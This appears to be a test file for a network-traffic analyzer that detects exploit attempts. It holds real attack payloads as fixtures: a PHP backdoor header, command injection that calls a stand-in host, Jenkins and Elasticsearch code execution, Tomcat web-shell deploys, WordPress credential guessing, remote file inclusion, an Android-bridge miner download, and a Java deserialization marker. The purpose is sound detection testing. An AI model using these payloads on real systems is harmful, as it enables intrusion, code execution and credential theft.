/**
 * Holes of products that are attacked over HTTP, Java RMI and Android's debug bridge, as their advisories and the modules of Metasploit and Exploit-DB write the
 * attack; and the same products in daily use. Built from these descriptions: the products themselves are not recorded.
 */
import { describe, expect, test } from 'vitest';
import { checkFilter } from '../../../src/analysis/filtering.ts';
import { analyzeCapture, findingsOf } from '../../support/analyzeCapture.ts';
import { dialogue, web, type RequestOptions } from '../../support/dialogue.ts';
import { PacketBuilder } from '../../support/packetBuilder.ts';

type Line = readonly ['client' | 'server', string];

const ATTACKER = '203.0.113.66',
  VICTIM = '10.0.0.9';
const found = async (lines: readonly Line[], port = 80) =>
  findingsOf(await analyzeCapture(dialogue(lines, { client: ATTACKER, server: VICTIM, port }).bytes()), 'exploit-attempt');
const post = (uri: string, body: string, more: RequestOptions = {}): readonly Line[] => web(uri, { method: 'POST', body, ...more });
const form = (fields: Readonly<Record<string, string>>): string => new URLSearchParams(fields).toString();
const FORM = 'Host: ci.example.org\r\nContent-Type: application/x-www-form-urlencoded\r\n',
  JSON_TYPE = 'Host: search.example.org\r\nContent-Type: application/json\r\n';

/** A ZIP archive's first entry, APPNOTE.TXT section 4.3.7; what is in it does not matter here. */
const war = (name: string, bytes = 1500): string =>
  `PK\x03\x04\x14\0\0\0\x08\0${'\0'.repeat(16)}${String.fromCharCode(name.length)}\0\0\0${name}${'x'.repeat(bytes)}`;
/** Logins as wpscan, Metasploit's wordpress_multicall_creds and the report of Sucuri (8 October 2015) have them. */
const multicall = (method: string, count: number): string =>
  `<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>${Array.from(
    { length: count },
    (_, i) =>
      `<value><struct><member><name>methodName</name><value><string>${method}</string></value></member><member><name>params</name><value><array><data><value><array><data><value><string>admin</string></value><value><string>guess${i}</string></value></data></array></value></data></array></value></member></struct></value>`,
  ).join('')}</data></array></value></param></params></methodCall>`;

const parts = (count: number, part: (i: number) => string): string => Array.from({ length: count }, (_, i) => part(i)).join(',');
const range = (asked: string): string => `Host: www.example.org\r\nRange: bytes=${asked}\r\n`;

describe('is told', () => {
  test.each<[string, string, readonly Line[]]>([
    // Exploit-DB 49933.
    ['Back door of PHP 8.1.0-dev', 'medium', web('/', { headers: 'Host: www.example.org\r\nUser-Agentt: zerodiumvar_dump(2*3);\r\n' })],
    [
      'Back door of PHP 8.1.0-dev',
      'high',
      web('/', {
        headers: 'Host: www.example.org\r\nUser-Agentt: zerodiumsystem("id");\r\n',
        answer: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n<html>',
      }),
    ],
    // killapache.pl (Full Disclosure, 20 August 2011) and slowhttptest -R ask for 0- and for every end behind one beginning.
    [
      'Denial of service by Range, CVE-2011-3192 (Apache)',
      'medium',
      web('/', { method: 'HEAD', headers: range(`0-,${parts(1300, (i) => `5-${i}`)}`) }),
    ],
    // The check of nmap's http-vuln-cve2015-1635.
    ['Denial of service by Range, CVE-2015-1635 (HTTP.sys)', 'medium', web('/', { headers: range('0-18446744073709551615') })],
    // Palo Alto Networks' advisory, and watchTowr's and Volexity's reports of April 2024.
    [
      'CVE-2024-3400 (PAN-OS GlobalProtect)',
      'medium',
      post('/ssl-vpn/hipreport.esp', 'user=global&portal=x', {
        headers:
          'Host: vpn.example.org\r\nCookie: SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/hello`curl${IFS}192.0.2.1`;\r\nContent-Type: application/x-www-form-urlencoded\r\n',
      }),
    ],
    // Metasploit's jenkins_script_console.
    [
      'Program sent to a script interface, Jenkins',
      'high',
      post('/scriptText', form({ script: 'println "id".execute().text' }), { headers: FORM, answer: 'uid=1000(jenkins) gid=1000(jenkins)\n' }),
    ],
    [
      'Program sent to a script interface, CVE-2019-1003000 (Jenkins)',
      'medium',
      web(
        "/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=public+class+x+%7b%7d%40GrabConfig(disableChecksums=true)%40GrabResolver(name='x',root='http://192.0.2.1/')",
      ),
    ],
    [
      'Program sent to a script interface, CVE-2024-23897 (Jenkins)',
      'medium',
      post('/cli?remoting=false', '\0\0\0\x06\0\0\x04help\0\0\0\x0e\0\0\x0c@/etc/passwd\0\0\0\x05\x02\0\x03GBK', {
        headers: 'Host: ci.example.org\r\nSide: upload\r\nContent-Type: application/octet-stream\r\n',
      }),
    ],
    // Metasploit's script_mvel_rce and search_groovy_script.
    [
      'Program sent to a script interface, CVE-2015-1427 (Elasticsearch)',
      'medium',
      post(
        '/_search?pretty',
        '{"size":1,"script_fields":{"msf":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\").getText()","lang":"groovy"}}}',
        { headers: JSON_TYPE },
      ),
    ],
    [
      'Program sent to a script interface, CVE-2015-1427 (Elasticsearch)',
      'high',
      post(
        '/website/_search',
        '{"size":1,"query":{"match_all":{}},"script_fields":{"/tmp":{"script":"import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\\"id\\").getInputStream()).useDelimiter(\\"A\\").next();"}}}',
        { headers: JSON_TYPE, answer: '{"hits":{"hits":[{"fields":{"/tmp":["uid=105(elasticsearch) gid=110(elasticsearch)\\n"]}}]}}' },
      ),
    ],
    // Metasploit's tomcat_mgr_deploy: its archives begin with WEB-INF.
    [
      "Web application deployed through Tomcat's manager",
      'high',
      web('/manager/text/deploy?path=/Kx3a', {
        method: 'PUT',
        headers: 'Host: app.example.org\r\nAuthorization: Basic dG9tY2F0OnRvbWNhdA==\r\nContent-Type: application/octet-stream\r\n',
        body: war('WEB-INF/'),
        answer: 'OK - Deployed application at context path /Kx3a\n',
      }),
    ],
    [
      "Web application deployed through Tomcat's manager",
      'medium',
      post(
        '/manager/html/upload?org.apache.catalina.filters.CSRF_NONCE=ABCDEF',
        `--b\r\nContent-Disposition: form-data; name="deployWar"; filename="shell.war"\r\n\r\n${war('cmd.jsp')}\r\n--b--`,
        { headers: 'Host: app.example.org\r\nContent-Type: multipart/form-data; boundary=b\r\n', status: '302 Found' },
      ),
    ],
    ['Passwords guessed by XML-RPC', 'medium', post('/xmlrpc.php', multicall('wp.getUsersBlogs', 50), { headers: 'Host: blog.example.org\r\n' })],
    [
      'Passwords guessed by XML-RPC',
      'high',
      post('/xmlrpc.php', multicall('wp.getUsersBlogs', 5), {
        headers: 'Host: blog.example.org\r\n',
        answer: '<methodResponse><params><param><value><array><data><value><struct><member><name>isAdmin</name><value><boolean>1',
      }),
    ],
    // OWASP, "Testing for Remote File Inclusion".
    ['Remote file inclusion', 'medium', web('/index.php?page=http://192.0.2.1/shell.txt?', { headers: 'Host: www.example.org\r\n' })],
    [
      'Remote file inclusion',
      'medium',
      web('/components/com_x/x.php?mosConfig_absolute_path=http%3A%2F%2F192.0.2.1%2Fc99.txt', { headers: 'Host: www.example.org\r\n' }),
    ],
  ])('%s (%s)', async (title, severity, lines) => {
    const [finding, ...others] = await found(lines);
    expect(others).toEqual([]);
    expect(finding).toMatchObject({
      severity,
      title: `${ATTACKER} ${severity === 'high' ? 'attacked' : 'tried to attack'} ${VICTIM} port 80: ${title}`,
    });
    expect(checkFilter(finding!.evidence.filter)).toMatchObject({ ok: true });
    expect(JSON.stringify(finding)).not.toMatch(/dG9tY2F0|panlogs/);
  });

  /** Message of adb, as protocol.txt of Android's adb has it: command, two arguments, length, sum, magic; then the data in a segment of its own. */
  const bridge = (from: 'client' | 'server', command: string, data: string): readonly Line[] => [
    [from, `${command}\x01\0\0\0\0\0\0\0${String.fromCharCode(data.length)}\0\0\0\0\0\0\0\0\0\0\0`],
    [from, data],
  ];
  // As ADB.Miner and Trinity do: 360 Netlab, February 2018.
  const MINER = 'shell:cd /data/local/tmp; busybox wget http://192.0.2.1/w.sh; sh w.sh\0';

  test("commands over Android's debug bridge that asks for no key; not over one that does, and not what developers say", async () => {
    const talk = (greeting: string, command: string): readonly Line[] => [
      ...bridge('client', 'CNXN', 'host::\0'),
      ...bridge('server', greeting, greeting === 'AUTH' ? 'x'.repeat(20) : 'device::ro.product.name=x;\0'),
      ...bridge('client', 'OPEN', command),
    ];
    const [finding, ...others] = await found(talk('CNXN', MINER), 5555);
    expect(others).toEqual([]);
    expect(finding?.title).toBe(`${ATTACKER} tried to attack ${VICTIM} port 5555: Known hole of a service, Android's debug bridge without a key`);
    expect(await found(talk('AUTH', MINER), 5555)).toEqual([]);
    expect(await found(talk('CNXN', 'shell:pm install /data/local/tmp/app.apk\0'), 5555)).toEqual([]);
  });

  // Java Remote Method Invocation Specification, section 10.2: the call follows the greeting, in a segment of its own.
  const rmi = (call: string, answer: string): readonly Line[] => [
    ['client', 'JRMI\0\x02K'],
    ['server', `N\0\x0c203.0.113.66\0\0\x9c\x40`],
    ['client', '\0\x0910.0.0.66\0\0\0\0'],
    ['client', call],
    ['server', answer],
  ];

  test('objects in calls of RMI behind its greeting, and references in what a registry answers; not plain calls', async () => {
    const lookup = 'P\xac\xed\0\x05w"\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x02D\x15M\xc9\xd4\xe6;\xdft\0\x03Obj';
    const [bind, ...more] = await found(
      rmi('P\xac\xed\0\x05w"\0\0ur\0 org.apache.commons.collections.functors.InvokerTransformer', 'Q\xac\xed\0\x05'),
      1099,
    );
    expect(more).toEqual([]);
    expect(bind?.subjects[0]).toEqual({ role: 'attacker', address: ATTACKER });
    const [reference, ...others] = await found(rmi(lookup, 'Q\xac\xed\0\x05w\x0f\x01sr\0/com.sun.jndi.rmi.registry.ReferenceWrapper_Stub'), 1099);
    expect(others).toEqual([]);
    expect(reference).toMatchObject({
      title: `${VICTIM} tried to attack ${ATTACKER}: Known hole of a service, a reference of JNDI`,
      subjects: [
        { role: 'attacker', address: VICTIM },
        { role: 'victim', address: ATTACKER },
      ],
    });
    expect(await found(rmi(lookup, 'Q\xac\xed\0\x05w\x0f\x01s}\0\0\0\x01\0\x14com.example.Calendar'), 1099)).toEqual([]);
  });

  test('a server that fetches a script which a parameter names, whatever the parameter is called', async () => {
    const builder = new PacketBuilder(),
      fetched = (answer: string, builder2 = builder): Promise<readonly { readonly title: string; readonly severity: string }[]> => {
        dialogue(web('/view.php?id=http://192.0.2.1/logo', { headers: 'Host: www.example.org\r\n' }), {
          client: ATTACKER,
          server: VICTIM,
          builder: builder2,
        });
        dialogue(web('/logo', { headers: 'Host: 192.0.2.1\r\n', answer }), {
          client: VICTIM,
          server: '192.0.2.1',
          clientPort: 41_000,
          builder: builder2,
        });
        return analyzeCapture(builder2.bytes()).then((report) => findingsOf(report, 'exploit-attempt'));
      };
    expect(await fetched('<?php system($_GET["c"]); ?>')).toMatchObject([
      { severity: 'high', title: '192.0.2.1 attacked 10.0.0.9: Remote file inclusion' },
    ]);
    expect(await fetched('<html><body>A picture</body></html>', new PacketBuilder())).toEqual([]);
  });
});

describe('daily use is left alone', () => {
  test.each<[string, readonly Line[]]>([
    ['sixty pages of a document at once', web('/manual.pdf', { headers: range(parts(60, (i) => `${i * 9000}-${i * 9000 + 4095}`)) })],
    ['a few parts that overlap', web('/film.mp4', { headers: range(parts(12, (i) => `0-${i * 1000}`)) })],
    ['a user agent that is spelled right', web('/', { headers: 'Host: x\r\nUser-Agent: zerodium\r\n' })],
    [
      'a session of GlobalProtect',
      post('/ssl-vpn/hipreport.esp', 'user=a', { headers: 'Host: x\r\nCookie: SESSID=9c1e3dbb-1234-4a5b; theme=dark\r\n' }),
    ],
    [
      'a script that lists plugins',
      post('/script', form({ script: 'Jenkins.instance.pluginManager.plugins.each { println it }' }), { headers: FORM }),
    ],
    [
      'a check of a pipeline',
      web('/job/x/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value=node+%7b+sh+%27make%27+%7d'),
    ],
    ['a command of Jenkins', post('/cli?remoting=false', '\0\0\0\x0c\0\0\nlist-jobs\0', { headers: 'Host: x\r\nSide: upload\r\n' })],
    ['a script in a search', post('/_search', '{"script_fields":{"x":{"script":"doc[\'price\'].value * 2"}}}', { headers: JSON_TYPE })],
    ['a document about Java', post('/docs/_update/1', '{"doc":{"text":"java.lang.Runtime is a class"}}', { headers: JSON_TYPE })],
    ['an application that Maven deploys', web('/manager/text/deploy?path=%2Fapp&update=true', { method: 'PUT', body: war('META-INF/') })],
    ['a large archive', web('/manager/text/deploy?path=/app', { method: 'PUT', body: war('WEB-INF/', 120_000) })],
    ['several questions in one call', post('/xmlrpc.php', multicall('wp.getPosts', 8))],
    ['two blogs of one user', post('/xmlrpc.php', multicall('wp.getUsersBlogs', 2))],
    ['a link to share', web('/sharer.php?u=https://www.example.com/article.php')],
    ['a way back', web('/login.php?redirect=https://www.example.com/account')],
    ['a picture to scale', web('/timthumb.php?src=http://cdn.example.com/a.jpg&w=100')],
    ['a page of its own', web('/index.php?page=http://www.example.org/about.php', { headers: 'Host: www.example.org\r\n' })],
  ])('%s', async (_name, lines) => expect(await found(lines)).toEqual([]));
});
